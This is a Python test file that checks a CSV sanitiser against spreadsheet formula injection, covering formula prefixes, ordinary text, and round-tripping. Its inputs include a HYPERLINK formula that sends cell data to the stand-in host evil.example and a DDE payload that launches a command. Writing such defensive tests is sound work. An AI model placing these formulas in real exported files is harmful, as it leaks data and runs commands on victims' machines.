"""CSV cells that a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io

import pytest

from tradequiz.textsafe import csv_cell, csv_row


@pytest.mark.parametrize(
    "raw",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+41 22 555",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_formula_starts_are_prefixed(raw: str) -> None:
    cell = csv_cell(raw)
    assert cell == "'" + raw
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("raw", ["Tariffs", "a=b", "1985 Plaza Accord", "", "'quoted", " =x"])
def test_ordinary_text_is_unchanged(raw: str) -> None:
    assert csv_cell(raw) == raw


def test_numbers_stay_numbers_and_none_is_empty() -> None:
    assert csv_row([-3, 2.5, None, True, "-x"]) == ["-3", "2.5", "", "True", "'-x"]


def test_round_trip_through_csv_keeps_the_text_readable() -> None:
    rows = [csv_row(["=1+1", "@me", "plain"])]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    back = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert back == [["'=1+1", "'@me", "plain"]]
